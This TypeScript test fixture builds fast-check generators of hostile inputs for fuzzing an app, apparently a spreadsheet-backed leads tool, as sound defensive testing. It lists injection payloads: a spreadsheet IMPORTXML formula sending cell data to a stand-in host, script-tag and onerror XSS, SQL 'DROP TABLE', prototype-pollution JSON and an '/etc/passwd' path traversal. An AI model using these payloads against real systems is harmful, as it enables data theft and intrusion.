/** Values that a page of somebody else's making may send in any place: every wrong type, size and spelling. */
import * as fc from 'fast-check';

export const LONE = '\ud83c cut \udf8c';
/** One more than a cell holds. */
export const TOO_LONG = 'x'.repeat(50_001);

export const HOSTILE_TEXTS = [
  '',
  ' ',
  '\t=1+1',
  '=IMPORTXML("https://example.test/"&A1)',
  "'=1+1",
  '+49 30 1234',
  '-1',
  '@SUM(A1:A9)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}} #{7*7} $(7)',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'NaN',
  'Infinity',
  '-Infinity',
  'undefined',
  'null',
  'true',
  '1e308',
  '１２３',
  '0000-01-01',
  '9999-12-31',
  '9999-12-31T23:59:59',
  '0001-01-01T00:00',
  '2026-02-30',
  '2026-02-30T10:00',
  '2026-11-31',
  '10000-01-01',
  '-000001-01-01',
  '+275760-09-13',
  '\u202eright to left\u202c',
  'مرحبا שלום',
  'two\nlines\r\nand\u2028more',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '\u0000',
  '\u0007bell',
  '\u001b[31mred',
  '\ufeffbom',
  LONE,
  '\ud800',
  '\udfff',
  `${'x'.repeat(999)}🏃`,
  'x'.repeat(1000),
  'y'.repeat(1001),
  '"'.repeat(1000),
  TOO_LONG,
  'L-0001',
  'L-0001.1.abc',
  'L-9999',
  '../../etc/passwd',
  '%s%d%n %00',
  "'; DROP TABLE leads; --",
];

export const HOSTILE_NUMBERS = [
  0,
  -0,
  -1,
  1.5,
  1e-7,
  1e15,
  1e16,
  1e21,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  2 ** 31,
  -(2 ** 53),
];

/** As deep as JSON's own reader goes along with. */
function deep(levels: number): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < levels; level++) value = level % 2 ? [value] : { a: value };
  return value;
}

/** `JSON.parse` makes an own property of the name, which a literal would not. */
const POLLUTING = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":1,"valueOf":2,"toJSON":"x"}',
  '{"length":5,"0":"a"}',
  '{"code":"lock_busy","params":{}}',
];

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 6 })
    .map((units) => String.fromCharCode(...units)),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...HOSTILE_NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], [{}], {}) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...POLLUTING).map((text): unknown => JSON.parse(text)),
  },
  { weight: 1, arbitrary: fc.constantFrom(30, 3000).map(deep) },
  { weight: 1, arbitrary: hostileText.map((text): unknown => [text, text]) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
);
